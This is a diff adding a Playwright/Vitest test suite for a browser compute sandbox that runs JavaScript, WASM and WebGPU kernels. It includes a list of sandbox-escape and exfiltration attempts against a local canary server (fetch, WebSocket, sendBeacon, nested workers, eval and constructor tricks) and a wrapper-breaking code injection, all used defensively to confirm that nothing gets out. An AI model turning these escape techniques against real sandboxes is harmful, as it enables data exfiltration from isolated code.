@@ -1,0 +1,258 @@
+import { createServer, type Server } from 'node:http'
+import { createRequire } from 'node:module'
+import type { AddressInfo } from 'node:net'
+import { pathToFileURL } from 'node:url'
+import { appPageCsp, sandboxDocument } from '@peercompute/worker-client/sandbox'
+import type { Browser, Page } from 'playwright-core'
+import { build } from 'vite'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { launchChromium, openPage } from '../harness/browser.ts'
+import type { PageJob, PageOutcome, SandboxPage } from '../../worker-client/src/compute/test-support/sandbox-page.ts'
+
+declare const sandbox: SandboxPage
+
+async function listen(server: Server): Promise<string> {
+  await new Promise<void>((resolve) => {
+    server.listen(0, '127.0.0.1', resolve)
+  })
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+}
+
+async function bundle(): Promise<string> {
+  const entry = new URL(
+    '../compute/test-support/sandbox-page.ts',
+    pathToFileURL(createRequire(import.meta.url).resolve('@peercompute/worker-client/sandbox'))
+  )
+  const result = await build({
+    configFile: false,
+    logLevel: 'error',
+    build: { write: false, minify: true, rolldownOptions: { input: entry.pathname } }
+  })
+  const output = 'output' in result ? result.output : Array.isArray(result) ? result.flatMap((part) => part.output) : []
+  const chunk = output.find((part) => part.type === 'chunk')
+  if (chunk === undefined) throw new Error('Vite made no chunk')
+  return chunk.code
+}
+
+/** Everything a job could try to reach the outside with. Each line stands alone. */
+function attacks(canary: string): string {
+  return [
+    `fetch('${canary}/fetch', { mode: 'no-cors', keepalive: true })`,
+    `{ const x = new XMLHttpRequest(); x.open('GET', '${canary}/xhr', false); x.send() }`,
+    `new WebSocket('${canary.replace('http', 'ws')}/ws')`,
+    `new EventSource('${canary}/es')`,
+    `importScripts('${canary}/import.js')`,
+    `import('${canary}/module.js').catch(() => {})`,
+    `new FontFace('x', 'url(${canary}/font)').load()`,
+    `navigator.sendBeacon('${canary}/beacon')`,
+    `new Worker('data:text/javascript,' + encodeURIComponent("fetch('${canary}/nested')"))`,
+    `new Worker('${canary}/worker.js')`,
+    `(0, eval)("fetch('${canary}/eval')")`,
+    `[].constructor.constructor("fetch('${canary}/function')")()`,
+    `(async () => {}).constructor("await fetch('${canary}/async')")()`,
+    `Reflect.deleteProperty(globalThis, 'fetch'); globalThis.fetch('${canary}/deleted')`,
+    `Object.getPrototypeOf(globalThis).fetch('${canary}/prototype')`,
+    `self.location = '${canary}/location'`,
+    `indexedDB.open('x')`,
+    `caches.open('x')`
+  ]
+    .map((line) => `try { ${line} } catch (error) { caught.push(String(error)) }`)
+    .join('\n')
+}
+
+describe('the sandbox in Chromium', () => {
+  let browser: Browser
+  let page: Page
+  let origin: string
+  let canary: string
+  let hits: string[]
+  const servers: Server[] = []
+
+  beforeAll(async () => {
+    const script = await bundle()
+    const frame = sandboxDocument()
+    const app = createServer((request, response) => {
+      if (request.url === '/sandbox.html') response.writeHead(200, frame.headers).end(frame.html)
+      else if (request.url === '/page.js') response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(script)
+      else if (request.url === '/lenient.html')
+        response
+          .writeHead(200, { 'Content-Type': 'text/html' })
+          .end('<!doctype html><title>Any frame</title><body><script type="module" src="/page.js"></script></body>')
+      else if (request.url === '/naked.html')
+        response.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>Without policy</title>')
+      else if (request.url === '/deaf.html')
+        response.writeHead(200, { 'Content-Type': 'text/html' }).end('<script>parent.postMessage({ type: "ready" }, "*")</script>')
+      else if (request.url === '/rude.html')
+        response.writeHead(200, { 'Content-Type': 'text/html' }).end('<script>parent.postMessage({ type: "ready", more: 1 }, "*")</script>')
+      else if (request.url === '/')
+        response
+          .writeHead(200, { 'Content-Type': 'text/html', 'Content-Security-Policy': appPageCsp(origin) })
+          .end('<!doctype html><title>App</title><script type="module" src="/page.js"></script>')
+      else response.writeHead(404).end()
+    })
+    hits = []
+    const bird = createServer((request, response) => {
+      hits.push(request.url ?? '')
+      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('')
+    })
+    bird.on('upgrade', (request, socket) => {
+      hits.push(request.url ?? '')
+      socket.destroy()
+    })
+    servers.push(app, bird)
+    origin = await listen(app)
+    canary = await listen(bird)
+    browser = await launchChromium()
+    page = (await openPage(await browser.newContext(), origin)).page
+    await page.waitForFunction(() => 'sandbox' in globalThis)
+  })
+  afterAll(async () => {
+    await browser.close()
+    for (const server of servers) server.close()
+  })
+
+  function run(kind: 'js' | 'wasm' | 'webgpu', job: PageJob, start: number, count: number): Promise<PageOutcome[]> {
+    return page.evaluate(([k, j, s, c]) => sandbox.run(k, j, s, c), [kind, job, start, count] as const)
+  }
+
+  it('computes a JavaScript kernel', async () => {
+    const outcomes = await run(
+      'js',
+      { js: 'export default ({ unit, params }) => ({ value: new Uint32Array([unit * params.k]) })', params: { k: 3 } },
+      10,
+      50
+    )
+    expect(outcomes).toEqual(Array.from({ length: 50 }, (_, i) => ({ unit: i + 10, value: [(i + 10) * 3] })))
+  })
+
+  it('computes a WASM kernel, through a trap and an error code', async () => {
+    const outcomes = await run('wasm', { wasm: true, params: { z: 100, a: [10, 0] } }, 0, 6)
+    expect(outcomes).toEqual([
+      { unit: 0, value: [100] },
+      { unit: 1, value: [110] },
+      { unit: 2, value: [120] },
+      { unit: 3, reason: 'runtime_error', message: 'RuntimeError: unreachable' },
+      { unit: 4, reason: 'runtime_error', message: 'compute returned 7' },
+      { unit: 5, value: [150] }
+    ])
+  })
+
+  it('computes a WebGPU kernel', async () => {
+    const wgsl = `
+      struct Params { k: u32 }
+      @group(1) @binding(0) var<uniform> params: Params;
+      @group(1) @binding(1) var<storage, read_write> value: array<u32>;
+      @compute @workgroup_size(64) fn main(@builtin(global_invocation_id) id: vec3u) {
+        let i = id.x + launch.offset.x;
+        if (i < launch.size.x) { value[i] = i * params.k + launch.unit; }
+      }`
+    const job: PageJob = {
+      wgsl,
+      params: { k: 7 },
+      passes: [{ entry: 'main', grid: [1_000, 1, 1], repeat: 1 }],
+      outputs: [{ name: 'value', type: 'u32', shape: [1_000] }]
+    }
+    const outcomes = await run('webgpu', job, 0, 5)
+    expect(outcomes).toEqual(
+      Array.from({ length: 5 }, (_, unit) => ({ unit, value: Array.from({ length: 1_000 }, (__, i) => i * 7 + unit) }))
+    )
+    expect(await page.evaluate(() => sandbox.executor('webgpu'))).toMatchObject({ kind: 'webgpu', software: true })
+  })
+
+  it("gives the line and message of a WGSL error in the researcher's own numbering", async () => {
+    const wgsl =
+      '// a comment\n@group(1) @binding(0) var<storage, read_write> value: array<u32>;\n@compute @workgroup_size(1) fn main() {\n  value[0] = missing;\n}\n'
+    const [outcome] = await run('webgpu', { wgsl }, 0, 1)
+    expect(outcome).toMatchObject({ reason: 'compile_error', message: expect.stringMatching(/^line 4:14: .*missing/) as string })
+  })
+
+  it('kills a hot loop, leaves the page alive, and runs the next unit within 5 s', async () => {
+    const beating = page.evaluate(() => sandbox.heartbeats(1_500))
+    const started = Date.now()
+    const outcomes = await run(
+      'js',
+      {
+        js: 'export default ({ unit }) => { while (unit === 0) {} return { value: new Uint32Array([unit]) } }',
+        limits: { unitSeconds: 1 }
+      },
+      0,
+      3
+    )
+    const took = Date.now() - started
+    expect(outcomes).toEqual([
+      { unit: 0, reason: 'timeout', message: 'The unit took longer than 1 s' },
+      { unit: 1, value: [1] },
+      { unit: 2, value: [2] }
+    ])
+    expect(took).toBeLessThan(6_000)
+    expect(await beating).toBeGreaterThan(0.8)
+  })
+
+  it('reports a throw, a syntax error with its line, and a wrong output', async () => {
+    expect(await run('js', { js: 'export default () => { throw new Error("no") }' }, 0, 1)).toEqual([
+      { unit: 0, reason: 'runtime_error', message: 'Error: no' }
+    ])
+    expect(await run('js', { js: '//\n//\nexport default () => { let let = 1 }' }, 0, 1)).toMatchObject([
+      { unit: 0, reason: 'compile_error', message: expect.stringMatching(/^line 3: /) as string }
+    ])
+    expect(await run('js', { js: 'export default () => ({ value: [1] })' }, 0, 1)).toMatchObject([{ reason: 'output_shape' }])
+  })
+
+  it('ends a program that floods', async () => {
+    const [outcome] = await run(
+      'js',
+      { js: 'export default () => { for (let i = 0; i < 1e5; i++) postMessage({ type: "loaded" }); for (;;); }' },
+      0,
+      1
+    )
+    expect(outcome).toMatchObject({ reason: 'runtime_error' })
+  })
+
+  it('gives up a frame that stops answering, or that says what is no message', async () => {
+    const lenient = (await openPage(await browser.newContext(), `${origin}/lenient.html`)).page
+    await lenient.waitForFunction(() => 'sandbox' in globalThis)
+    expect(await lenient.evaluate(() => sandbox.probeAt('/deaf.html'))).toContain('The sandbox stopped answering')
+    expect(await lenient.evaluate(() => sandbox.probeAt('/rude.html'))).toContain('a message of the wrong form')
+  })
+
+  it('has no way out: none of the attacks reaches the canary', async () => {
+    const names = [
+      'fetch',
+      'importScripts',
+      'Worker',
+      'indexedDB',
+      'navigator',
+      'XMLHttpRequest',
+      'WebSocket',
+      'caches',
+      'performance',
+      'Date',
+      'crypto',
+      'RTCPeerConnection',
+      'OffscreenCanvas'
+    ]
+    const inside = `const caught = []\nexport default () => {\n${attacks(canary)}\nreturn { value: new Uint32Array([${names.map((name) => `typeof ${name}`).join(' + ')} === '${'undefined'.repeat(names.length)}' ? 1 : 0]) } }`
+    expect(await run('js', { js: inside }, 0, 1)).toEqual([{ unit: 0, value: [1] }])
+    const outside =
+      `const caught = []\n})();\nconst caught = [];\n${attacks(canary)}\nglobalThis.peercomputeKernel = (() => {\nexport default () => ({ value: new Uint32Array([caught.length]) })`.replace(
+        'const caught = []\n})',
+        '})'
+      )
+    const [escaped] = await run('js', { js: outside }, 0, 1)
+    expect(escaped).toMatchObject({ value: [expect.toSatisfy((caught: number) => caught >= 16) as number] })
+    // A later, honest unit gives late requests time to arrive.
+    await run('js', { js: 'export default ({ unit }) => ({ value: new Uint32Array([unit]) })' }, 0, 20)
+    expect(hits).toEqual([])
+  })
+
+  it('would see them: the same attacks without the sandbox reach the canary', async () => {
+    const naked = (await openPage(await browser.newContext(), `${origin}/naked.html`)).page
+    await naked.evaluate(
+      (script) => {
+        new Worker(`data:text/javascript,${encodeURIComponent(script)}`)
+      },
+      `const caught = [];\n${attacks(canary)}`
+    )
+    await expect.poll(() => new Set(hits).size, { timeout: 10_000 }).toBeGreaterThanOrEqual(5)
+  })
+})
